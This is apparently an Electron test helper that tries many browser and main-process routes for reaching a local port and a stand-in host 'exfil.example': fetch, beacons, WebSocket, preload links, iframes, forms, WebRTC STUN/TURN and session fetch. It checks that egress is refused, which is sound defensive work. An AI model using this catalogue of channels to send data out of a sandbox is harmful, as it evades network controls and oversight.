// Ways in which a page, and Electron's own parts, would reach a server. Each runs inside the app, so it uses nothing from outside itself.

/** Runs in the window's page: tries to reach 127.0.0.1 at the port, and a name; resolves with the number of attempts. */
export async function tryFromPage(port) {
  const http = `http://127.0.0.1:${port}/`;
  const named = 'https://exfil.example/';
  let count = 0;
  const attempt = work => {
    count += 1;
    try {
      Promise.resolve(work()).catch(() => undefined);
    } catch {
      /* refused, as it should be */
    }
  };
  const element = (tag, attributes) => () => {
    const made = document.createElement(tag);
    made.className = 'probe';
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.head.append(made);
    made.click?.();
    made.submit?.();
  };
  for (const url of [http, named]) {
    attempt(() => fetch(url));
    attempt(() => fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }));
    attempt(() => navigator.sendBeacon(url, 'x'));
    attempt(() => new WebSocket(url.replace(/^http/, 'ws')));
    attempt(() => new EventSource(url));
    attempt(() => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    });
    attempt(() => Object.assign(new Image(), { src: url }));
    attempt(() => new Audio(url).play());
    attempt(() => import(/* @vite-ignore */ `${url}x.js`));
    attempt(() => new FontFace('x', `url(${url})`).load());
    attempt(() => new Worker(url));
    attempt(() => navigator.serviceWorker.register(url));
    attempt(() => window.open(url));
  }
  const relations = [
    'stylesheet',
    'icon',
    'prefetch',
    'preload',
    'preconnect',
    'dns-prefetch',
    'modulepreload',
    'manifest',
    'prerender',
  ];
  for (const rel of relations)
    attempt(element('link', { rel, href: rel === 'dns-prefetch' ? '//exfil.example' : http, as: 'image' }));
  for (const tag of ['iframe', 'embed', 'video', 'audio', 'script', 'img', 'source', 'track'])
    attempt(element(tag, { src: http }));
  attempt(element('object', { data: http }));
  attempt(element('input', { type: 'image', src: http }));
  attempt(element('form', { action: http }));
  attempt(element('a', { href: '#', ping: http }));
  attempt(element('meta', { 'http-equiv': 'refresh', content: `0;url=${http}` }));
  attempt(async () => {
    const iceServers = [
      { urls: [`stun:127.0.0.1:${port}`, 'stun:exfil.example:3478'] },
      { urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'a', credential: 'b' },
    ];
    const peer = new RTCPeerConnection({ iceServers });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  });
  await new Promise(done => setTimeout(done, 1_500));
  for (const node of document.querySelectorAll('.probe')) node.remove();
  return count;
}

/** Runs in Electron's main process: what its sessions and its `net` would load; resolves with the number of attempts. */
export async function tryFromShell({ session, net }, port) {
  const urls = [`http://127.0.0.1:${port}/`, `http://localhost:${port}/`, `http://[::1]:${port}/`, 'https://exfil.example/'];
  const other = session.fromPartition('probe');
  const works = urls.flatMap(url => [
    () => session.defaultSession.fetch(url),
    () => other.fetch(url),
    () => net.fetch(url),
    () => session.defaultSession.preconnect({ url, numSockets: 2 }),
  ]);
  // A dead name, or a proxy that is none, must not keep this waiting.
  const limit = new Promise(done => setTimeout(done, 5_000));
  await Promise.race([limit, Promise.allSettled(works.map(async work => work()))]);
  return works.length;
}
